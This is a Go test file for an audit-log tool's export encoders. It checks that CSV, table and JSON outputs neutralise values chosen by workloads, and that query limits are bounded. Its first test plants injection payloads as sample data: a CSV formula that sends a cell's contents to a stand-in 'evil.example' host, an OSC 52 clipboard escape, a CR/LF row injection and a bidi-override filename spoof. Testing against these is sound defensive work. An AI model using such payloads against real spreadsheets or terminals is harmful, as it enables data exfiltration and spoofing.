package admin

import (
	"encoding/csv"
	"net/url"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/egress-authz/egress-authz/internal/audit"
	"github.com/egress-authz/egress-authz/internal/audit/audittest"
)

// TestOutputsNeutralizeWhatWorkloadsChoose: request ids, hosts and paths
// come from workloads. In CSV a leading = + - @ would be a spreadsheet
// formula; in the table a control character would reach the auditor's
// terminal. JSON keeps the exact values.
func TestOutputsNeutralizeWhatWorkloadsChoose(t *testing.T) {
	r := audittest.Sample(1)
	r.RequestID = `=HYPERLINK("http://evil.example/?"&A1,"open")`
	r.Path = "/x\x1b]52;c;ZXZpbA==\x07\r\nFAKE ROW"
	r.Host = "+1.example"
	r.Principal = "spiffe://cluster.local/ns/a/sa/\u202egnp.exe" // a bidi override

	var b strings.Builder
	enc, err := NewEncoder("csv", &b)
	if err != nil {
		t.Fatal(err)
	}
	if err := enc.Encode(&r); err != nil {
		t.Fatal(err)
	}
	if err := enc.Close(""); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(strings.NewReader(b.String())).ReadAll()
	if err != nil || len(rows) != 2 {
		t.Fatalf("%d rows, %v:\n%s", len(rows), err, b.String())
	}
	for i, name := range rows[0] {
		if v := rows[1][i]; v != "" && strings.ContainsRune("=+-@", rune(v[0])) {
			t.Errorf("CSV column %s starts with %q: %q", name, v[0], v)
		}
	}
	if got := rows[1][1]; got != "'"+r.RequestID {
		t.Errorf("request_id cell %q, want the value behind an apostrophe", got)
	}

	b.Reset()
	enc, _ = NewEncoder("table", &b)
	if err := enc.Encode(&r); err != nil {
		t.Fatal(err)
	}
	if err := enc.Close(""); err != nil {
		t.Fatal(err)
	}
	out := b.String()
	if strings.ContainsAny(out, "\x1b\x07\r") || strings.Count(out, "\n") != 2 {
		t.Errorf("table output carries control characters or extra lines:\n%q", out)
	}
	if strings.ContainsRune(out, '\u202e') || !strings.Contains(out, `sa/\u202egnp.exe`) {
		t.Errorf("table output does not escape the bidi override:\n%s", out)
	}
	if !strings.Contains(out, `/x\x1b]52;c;ZXZpbA==\a\r\nFAKE ROW`) {
		t.Errorf("table output does not show the path escaped:\n%s", out)
	}

	b.Reset()
	enc, _ = NewEncoder("json", &b)
	_ = enc.Encode(&r)
	_ = enc.Close("")
	if !strings.Contains(b.String(), `"request_id":"=HYPERLINK(`) {
		t.Errorf("JSON changed the request id:\n%s", b.String())
	}
}

// TestFilterBounds: a limit or a day count too large to mean anything is
// refused instead of overflowing.
func TestFilterBounds(t *testing.T) {
	now := time.Date(2026, 11, 22, 0, 0, 0, 0, time.UTC)
	for _, q := range []url.Values{
		{"limit": {"9223372036854775807"}},
		{"limit": {"1000001"}},
		{"limit": {"-1"}},
		{"since": {"106752d"}},
		{"until": {"9999999d"}},
	} {
		if _, err := ParseFilter(q, now); err == nil {
			t.Errorf("%v accepted", q)
		}
	}
	f, err := ParseFilter(url.Values{"limit": {"1000000"}, "since": {"36500d"}}, now)
	if err != nil || f.Limit != MaxLimit || !f.Since.Before(now) {
		t.Errorf("the largest accepted values: %+v, %v", f, err)
	}
}

// TestCSVShowsEveryField: the CSV header is the fields' names, in the
// order of audit.Fields, and each field of a record, changed in turn by
// reflection over audit.Record, changes its row.
func TestCSVShowsEveryField(t *testing.T) {
	encode := func(r *audit.Record) [][]string {
		var b strings.Builder
		enc, err := NewEncoder("csv", &b)
		if err != nil {
			t.Fatal(err)
		}
		if err := enc.Encode(r); err != nil {
			t.Fatal(err)
		}
		if err := enc.Close(""); err != nil {
			t.Fatal(err)
		}
		rows, err := csv.NewReader(strings.NewReader(b.String())).ReadAll()
		if err != nil || len(rows) != 2 {
			t.Fatalf("%d rows, %v:\n%s", len(rows), err, b.String())
		}
		return rows
	}
	full := audittest.Full()
	rows := encode(&full)
	var names []string
	for _, f := range audit.Fields() {
		names = append(names, f.Name)
	}
	if !slices.Equal(rows[0], names) {
		t.Errorf("CSV header %v, want %v", rows[0], names)
	}
	for _, v := range audittest.Vary(full) {
		if got := encode(&v.Record); slices.Equal(got[1], rows[1]) {
			t.Errorf("changing Record.%s leaves the CSV row as it was", v.Field)
		}
	}
}
